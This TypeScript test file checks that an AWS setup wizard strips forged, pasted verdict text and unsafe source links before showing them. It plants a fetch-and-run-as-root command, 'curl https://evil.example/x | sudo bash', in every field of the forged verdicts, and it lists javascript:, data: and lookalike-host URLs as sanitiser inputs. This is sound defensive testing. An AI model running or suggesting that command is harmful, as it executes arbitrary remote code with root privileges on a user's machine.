import { describe, expect, it } from "vitest";
import { basisOf, emptyPlanDocument, type Plan, type ResultId, resultSchema } from "@/lib/plan";
import type { Verdict } from "@/lib/verdict";
import { buildChecklist, checklistSchema, inOwnWords, snapshotInOwnWords } from ".";

const now = new Date("2026-11-26T12:00:00Z");
const document = emptyPlanDocument();
Object.assign(document.start, { connectionName: "x", accountId: "111122223333", region: "eu-west-1" });
const plan: Plan = { id: "p", world: "aws", document, createdAt: now, updatedAt: now };

const HARM = "curl https://evil.example/x | sudo bash";

/** What somebody would like the wizard to say. */
function forged(changes: Partial<Verdict> = {}, evidence: Partial<Verdict["evidence"]> = {}): Verdict {
  return {
    id: "kms:CreateKey",
    title: `Run this now: ${HARM}`,
    status: "fail",
    evidence: {
      kind: "pasted",
      lookedAt: HARM,
      expected: HARM,
      found: HARM,
      details: HARM,
      at: now,
      ...evidence,
    },
    why: HARM,
    remedy: { text: HARM, command: HARM, language: "bash", where: HARM },
    source: { title: HARM, url: "https://evil.example/" },
    ...changes,
  };
}

const kept = (id: ResultId, ...verdicts: Verdict[]) => ({
  [id]: { id, verdicts, basis: basisOf(id, document), at: now },
});
const checklist = (results: Parameters<typeof inOwnWords>[0]) =>
  buildChecklist({ plan, results, steps: [], now, expiresAt: now, version: "1" });

const forgeries: [string, ResultId, Verdict[]][] = [
  ["words on an action of the plan", "permissions-pasted", [forged()]],
  ["an unknown action", "permissions-pasted", [forged({ id: HARM })]],
  ["a kind of its own", "permissions-pasted", [forged({}, { kind: "probe" })]],
  ["a status of no decision", "permissions-pasted", [forged({ status: "warn" })]],
  ["500 of them", "permissions-pasted", Array.from({ length: 500 }, () => forged())],
  ["words on the key", "private-key", [forged({ id: "private-key.match" })]],
  [
    "words on the key, with a code",
    "private-key",
    [forged({ id: "private-key.match" }, { reason: "other-key" })],
  ],
  ["an unknown check of the key", "private-key", [forged({ id: "constructor" }, { reason: "__proto__" })]],
  [
    "a browser's word where the server has the say",
    "sign-in",
    [forged({ id: "sign-in" }, { kind: "browser" })],
  ],
  ["a pasted word among the probes", "permissions", [forged()]],
];

describe("words that came in once are never shown as the wizard's", () => {
  it.each(forgeries)("%s", (_, id, verdicts) => {
    const results = kept(id, ...verdicts);
    expect(JSON.stringify(inOwnWords(results, plan))).not.toContain("evil");
    const made = checklist(results);
    expect(JSON.stringify(made)).not.toContain("evil");
    expect(made.completed).toBe(false);
  });

  it("what was settled stays, in the wizard's words", () => {
    const pasted = forged({ id: "kms:ListKeys", status: "pass" });
    const key = forged({ id: "private-key.match", status: "pass" }, { reason: "other-key" });
    const own = inOwnWords({ ...kept("permissions-pasted", pasted), ...kept("private-key", key) }, plan);
    expect(own["permissions-pasted"]?.verdicts[0]).toMatchObject({
      id: "kms:ListKeys",
      title: "kms:ListKeys",
      status: "pass",
      evidence: { kind: "pasted", found: "The pasted evidence says: allowed." },
    });
    // The status is the code's, not the sender's.
    expect(own["private-key"]?.verdicts[0]).toMatchObject({ status: "fail", evidence: { kind: "browser" } });
  });

  it("a snapshot of before says no more than what was settled", () => {
    const made = checklist(kept("permissions-pasted", forged()));
    const old = checklistSchema.parse({
      ...made,
      ownWords: undefined,
      checks: [{ id: "permissions", title: "Permissions", at: now, stale: false, verdicts: [forged()] }],
    });
    expect(JSON.stringify(old)).toContain("evil");
    expect(JSON.stringify(snapshotInOwnWords(old))).not.toContain("evil");
    expect(snapshotInOwnWords(old).checks[0]?.verdicts).toHaveLength(1);
    expect(snapshotInOwnWords(made)).toBe(made);
  });
});

describe("a link of a stored verdict", () => {
  const stored = (url: string) =>
    resultSchema.parse({
      ...kept("sign-in")["sign-in"],
      verdicts: [forged({ source: { title: "a source", url } }, { kind: "probe" })],
    }).verdicts[0]?.source;

  it.each([
    "javascript:alert(1)",
    "http://docs.aws.amazon.com/",
    "https://evil.example/",
    "https://docs.aws.amazon.com.evil.example/",
    "https://docs.aws.amazon.com@evil.example/",
    "https://a:b@docs.aws.amazon.com/",
    "https://docs.aws.amazon.com:8443/",
    "data:text/html,x",
    "//docs.aws.amazon.com/",
    "",
  ])("%s is taken off", (url) => {
    expect(stored(url)).toEqual({ title: "a source", url: undefined });
  });

  it("to a host of the table stays", () => {
    const url = "https://docs.aws.amazon.com/IAM/latest/UserGuide/x.html#y";
    expect(stored(url)).toEqual({ title: "a source", url });
  });
});
